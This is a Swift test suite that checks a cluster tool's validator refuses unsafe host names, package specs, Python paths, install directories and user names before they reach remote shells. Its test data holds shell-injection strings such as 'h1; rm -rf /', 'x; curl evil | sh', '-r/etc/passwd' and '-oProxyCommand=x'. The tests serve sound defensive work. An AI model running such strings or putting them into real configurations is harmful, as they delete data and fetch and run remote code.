import Testing
@testable import ClusterKit

/// Values that would reach remote shells are held to narrow forms.
@Suite struct SpecHostileValueTests {
    static let hostileHosts = [
        "h1; rm -rf /", "$(id)", "`id`", "h1|nc x 1", "h1&", "h 1", "\"h1\"", "'h1'", "h1\nh2", "-oProxyCommand=x",
        "h1>out", "h1\\", "h_1", "256.1.1.1", "1.2.3", "fe80::1%eth0", "::g", "-h1", "h1-", "a..b", "",
    ]

    @Test(arguments: hostileHosts)
    func hostileHostIsRefused(_ host: String) {
        #expect(SpecValueRules.hostProblem(host) != nil, "\(host.debugDescription) was accepted")
    }

    @Test(arguments: ["h1", "worker-3.internal", "10.0.0.6", "127.0.0.2", "::1", "fe80::1", "2001:db8::42", "LOCALHOST"])
    func plainHostIsAccepted(_ host: String) {
        #expect(SpecValueRules.hostProblem(host) == nil)
    }

    @Test func hostileHostInAFileIsReportedAtTheItem() {
        let diagnostics = SpecFixture.diagnostics("""
            name: p
            provider:
              kind: ssh
              scheduler: "h1;reboot"
              workers:
                - h2
                - "$(curl evil)"
            """)
        #expect(diagnostics.count == 2, "\(diagnostics)")
        #expect(diagnostics.first?.hasPrefix("c.yaml:4:14: provider.scheduler \"h1;reboot\" contains \";\"") == true, "\(diagnostics)")
        #expect(diagnostics.last?.hasPrefix("c.yaml:7:7: host \"$(curl evil)\" in provider.workers contains \"$\"") == true, "\(diagnostics)")
    }

    static let hostilePackages = [
        "numpy; rm -rf /", "numpy && curl x", "numpy|sh", "$(id)", "`id`", "numpy\nrequests", "--index-url=http://evil",
        "-r/etc/passwd", "numpy @ https://evil/x.whl", "numpy>=1 ; python_version>'3'", "'numpy'", "numpy > 1 2", "",
    ]

    @Test(arguments: hostilePackages)
    func hostilePackageIsRefused(_ package: String) {
        #expect(SpecValueRules.packageProblem(package) != nil, "\(package.debugDescription) was accepted")
    }

    @Test(arguments: ["numpy", "dask==2026.8.0", "pandas>=2,<3", "dask[dataframe,distributed]==2026.8.0",
                      "bokeh >= 3.4", "scipy~=1.13", "zarr!=2.0.*", "torch==2.3.0+cpu", "my_pkg.sub-name"])
    func requirementIsAccepted(_ package: String) {
        #expect(SpecValueRules.packageProblem(package) == nil)
    }

    @Test func hostilePackageInAFileIsReportedAtTheItem() {
        let diagnostics = SpecFixture.diagnostics(SpecFixture.minimal + "environment:\n  packages: [numpy, \"x; curl evil | sh\"]\n")
        #expect(diagnostics.count == 1)
        #expect(diagnostics.first?.hasPrefix("c.yaml:5:21: package \"x; curl evil | sh\" contains \";\"") == true, "\(diagnostics)")
    }

    @Test(arguments: ["python3; id", "$(which python)", "python 3", "../python3", "-c", "py\nthon", "relative/python3"])
    func hostilePythonIsRefused(_ python: String) {
        #expect(SpecValueRules.pythonProblem(python) != nil, "\(python.debugDescription) was accepted")
    }

    @Test(arguments: ["python3", "python3.11", "/usr/bin/python3", "/root/.pyenv/versions/3.11.9/bin/python"])
    func pythonIsAccepted(_ python: String) {
        #expect(SpecValueRules.pythonProblem(python) == nil)
    }

    @Test(arguments: ["relative/dir", "/opt/$(id)", "/opt/x y", "/opt/{name}", "~other/x", "/opt/x;y"])
    func hostileInstallDirIsRefused(_ dir: String) {
        #expect(SpecValueRules.installDirProblem(dir) != nil, "\(dir.debugDescription) was accepted")
    }

    @Test(arguments: ["/opt/clusterctl/{host}", "~/.local/share/clusterctl", "/tmp/x-1.2_3"])
    func installDirIsAccepted(_ dir: String) {
        #expect(SpecValueRules.installDirProblem(dir) == nil)
    }

    @Test(arguments: ["bob;id", "-oProxyCommand", "a b", "$USER", ""])
    func hostileUserIsRefused(_ user: String) {
        #expect(SpecValueRules.userProblem(user) != nil, "\(user.debugDescription) was accepted")
    }
}
